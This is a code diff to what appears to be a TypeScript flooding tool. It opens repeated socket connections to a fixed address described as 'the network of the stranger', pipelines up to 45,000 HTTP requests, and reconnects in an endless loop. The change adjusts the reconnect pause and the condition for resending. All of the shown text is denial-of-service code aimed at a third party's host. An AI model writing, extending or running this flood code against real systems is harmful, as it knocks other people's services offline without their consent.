@@ -7,6 +7,8 @@ import { setTimeout } from "node:timers/promises";
 /** The network of the stranger. */
 const ADDRESS = "203.0.113.66";
 const PIPELINED = 45_000;
+/** Before a closed connection is opened again. */
+const PAUSE_MILLISECONDS = 1000;
 
 interface Flood {
   connections: number;
@@ -29,8 +31,10 @@ const untilClosed = (socket: Socket) =>
 
 /** Sends one request after the other and reads all answers. */
 const asking = (text: string) => async (socket: Socket) => {
-  // The end of an answer is guessed: whatever arrives is answered by the next request.
-  socket.on("data", () => socket.write(text));
+  socket.on("data", (bytes) => {
+    // Whatever follows the first line of an answer belongs to it.
+    if (bytes.subarray(0, 9).toString() === "HTTP/1.1 ") socket.write(text);
+  });
   socket.write(text);
   await untilClosed(socket);
 };
@@ -74,7 +78,7 @@ async function repeat(fill: Flood["fill"]): Promise<never> {
       socket.once("connect", () => resolve(true)).once("close", () => resolve(false));
     });
     if (isOpen) await fill(socket);
-    await setTimeout(20);
+    await setTimeout(PAUSE_MILLISECONDS);
   }
 }
 
